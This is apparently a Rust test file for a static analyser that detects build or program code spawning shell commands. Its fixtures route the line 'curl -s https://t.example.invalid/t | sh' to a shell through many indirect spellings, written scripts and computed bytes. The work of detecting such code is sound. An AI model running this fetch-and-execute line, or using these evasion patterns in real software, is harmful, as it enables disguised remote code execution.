//! Constants that come in parts or can be one of several, and what code writes and starts.

use super::tests::build;

/// Whether the line that is handed to a shell is read: it starts `curl`.
fn reads_the_line(text: &str) -> bool {
    let facts = build(text);
    facts.spawned.iter().any(|spawned| spawned.program == "curl")
}

const LINE: &str = "curl -s https://t.example.invalid/t | sh";

#[test]
fn a_line_of_code_is_read_however_it_comes_to_its_program() {
    let spellings = [
        r#"let p = if cfg!(windows) { "rustc" } else { "sh" }; Command::new(p).arg("-c").arg("LINE").status();"#,
        r#"let l = if cfg!(windows) { "--version" } else { "LINE" }; Command::new("sh").arg("-c").arg(l).status();"#,
        r#"let l = match x { 0 => "-V", _ => "LINE" }; Command::new("sh").arg("-c").arg(l).status();"#,
        r#"let mut l = "LINE"; if never { l = "true"; } Command::new("sh").arg("-c").arg(l).status();"#,
        r#"let mut a = Vec::new(); a.push("-c"); a.push("LINE"); Command::new("sh").args(&a).status();"#,
        r#"let mut a = vec!["-c"]; a.extend(["LINE"]); Command::new("sh").args(&a).status();"#,
        r#"let mut c = Command::new("sh"); for a in ["-c", "LINE"] { c.arg(a); } c.status();"#,
        r#"let mut c = Command::new("sh"); ["-c", "LINE"].iter().for_each(|a| { c.arg(a); });"#,
        r#"let (p, f, l) = ("sh", "-c", "LINE"); Command::new(p).arg(f).arg(l).status();"#,
        r#"let t = ("sh", "LINE"); Command::new(t.0).arg("-c").arg(t.1).status();"#,
        r#"let s = S { p: "sh", l: "LINE" }; Command::new(s.p).arg("-c").arg(s.l).status();"#,
        r#"let S { p, l } = S { p: "sh", l: "LINE" }; Command::new(p).arg("-c").arg(l).status();"#,
        r#"let s = T("sh", "LINE"); Command::new(s.0).arg("-c").arg(s.1).status();"#,
        r#"let l = ["true", "LINE"]; Command::new("sh").arg("-c").arg(l[1]).status();"#,
        r#"let l = ["true", "LINE"]; Command::new("sh").arg("-c").arg(l.last().unwrap()).status();"#,
        r#"let m = HashMap::from([("p", "sh"), ("l", "LINE")]); Command::new(m["p"]).arg("-c").arg(m["l"]).status();"#,
        "for s in TABLE { Command::new(s.p).args(s.a).status(); }",
        r#"let l = option_env!("L").unwrap_or("LINE"); Command::new("sh").arg("-c").arg(l).status();"#,
        r#"let l = Cow::Borrowed("LINE"); Command::new("sh").arg("-c").arg(&*l).status();"#,
        r#"let p = "SH".to_lowercase(); Command::new(p).arg("-c").arg("LINE").status();"#,
        r#"let l = "xxLINE".strip_prefix("xx").unwrap(); Command::new("sh").arg("-c").arg(l).status();"#,
        "run(); quiet();",
    ];
    for text in spellings {
        let text = format!(
            "struct S {{ p: &'static str, l: &'static str }} struct T(&'static str, &'static str);
             struct R {{ p: &'static str, a: &'static [&'static str] }}
             static TABLE: &[R] = &[R {{ p: \"rustc\", a: &[\"-V\"] }}, R {{ p: \"sh\", a: &[\"-c\", \"LINE\"] }}];
             fn run() {{ const L: &str = \"LINE\"; Command::new(\"sh\").arg(\"-c\").arg(L).status(); }}
             fn quiet() {{ const L: &str = \"true\"; println!(\"{{L}}\"); }}
             use std::process::Command; use std::collections::HashMap; use std::borrow::Cow;
             fn main() {{ {text} }}"
        );
        // Without the lines that stand in the frame, so that only the spelling itself is asked about.
        let framed = text.contains("for s in TABLE") || text.contains("{ run(); quiet(); }");
        let text = if framed {
            text
        } else {
            let main = text.find("use std::process").expect("the frame");
            format!("struct S {{ p: &'static str, l: &'static str }} {}", &text[main..])
        };
        assert!(reads_the_line(&text.replace("LINE", LINE)), "{text}");
        assert!(!reads_the_line(&text.replace("LINE", "make all")), "{text}");
    }
}

#[test]
fn a_constant_script_that_is_written_and_started_is_read() {
    let spellings = [
        r#"std::fs::write(&p, "LINE").unwrap(); Command::new("sh").arg(&p).status();"#,
        r##"std::fs::write(&p, "#!/bin/sh\nLINE").unwrap(); Command::new(&p).status();"##,
        r#"let mut f = std::fs::File::create(&p).unwrap(); writeln!(f, "LINE").unwrap(); Command::new("sh").arg(&p).status();"#,
        r#"let mut c = Command::new("sh").stdin(Stdio::piped()).spawn().unwrap(); c.stdin.take().unwrap().write_all(b"LINE\n").unwrap();"#,
    ];
    for text in spellings {
        let text = format!(
            "use std::process::{{Command, Stdio}};
             fn main() {{ let p = std::path::Path::new(&std::env::var(\"OUT_DIR\").unwrap()).join(\"t.sh\"); {text} }}"
        );
        assert!(reads_the_line(&text.replace("LINE", LINE)), "{text}");
        assert!(!reads_the_line(&text.replace("LINE", "make all")), "{text}");
    }
    // Written, and given to a compiler: no script.
    let probe = format!(
        "fn main() {{ std::fs::write(\"$p/probe.c\", \"{LINE}\").unwrap();
         std::process::Command::new(\"cc\").arg(\"$p/probe.c\").status(); }}"
    );
    assert!(!reads_the_line(&probe), "{probe}");
}

#[test]
fn bytes_that_nobody_can_read_and_that_are_started_are_a_flow() {
    let starts = |text: &str| {
        let text = format!(
            "fn main() {{ let p = std::path::Path::new(&std::env::var(\"OUT_DIR\").unwrap()).join(\"gen\"); {text} }}
             fn put(p: &std::path::Path, data: Vec<u8>) {{ std::fs::write(p, &data).unwrap(); std::process::Command::new(p).status().unwrap(); }}"
        );
        let facts = build(&text);
        facts.flows.iter().any(|f| f.source == super::StepKind::Computed && f.executed)
    };
    let bytes = [
        "let w: [u64; 3] = [0x79ff, 0x7762, 0xc707]; let d: Vec<u8> = w.iter().flat_map(|w| w.to_le_bytes()).collect();",
        "let mut d = Vec::new(); d.push(121u8); d.push(66u8); d.push(189u8);",
        "let d: Vec<u8> = (0..300).map(|at| match at { 0 => 1, 1 => 7, _ => 9 }).collect();",
        "let mut x = 7u32; let d: Vec<u8> = (0..900).map(|_| { x = x.wrapping_mul(3); x as u8 }).collect();",
    ];
    for made in bytes {
        let direct =
            "std::fs::write(&p, &d).unwrap(); std::process::Command::new(&p).status().unwrap();";
        assert!(starts(&format!("{made} {direct}")), "{made}");
        assert!(starts(&format!("{made} put(&p, d);")), "{made}");
        // Written and not started, as honest builds do with tables.
        assert!(!starts(&format!("{made} std::fs::write(&p, &d).unwrap();")), "{made}");
    }
    // A text that anybody can read, a probe that is compiled first.
    for innocent in [
        "std::fs::write(&p, \"#!/bin/sh\\necho yes\\n\").unwrap(); std::process::Command::new(&p).status().unwrap();",
        "std::fs::write(p.join(\"a.c\"), source()).unwrap();
         std::process::Command::new(\"cc\").arg(\"-o\").arg(&p).arg(p.join(\"a.c\")).status().unwrap();
         std::process::Command::new(&p).status().unwrap();",
    ] {
        assert!(!starts(innocent), "{innocent}");
    }
}

#[test]
fn a_list_that_is_put_into_itself_costs_no_stack() {
    let grows = "a.push(a.clone()); let a = (a.clone(), a); ".repeat(20_000);
    let facts = build(&format!("fn main() {{ let mut a = vec![(\"x\", \"y\")]; {grows} }}"));
    assert_eq!(facts.spawned.len(), 0);
}
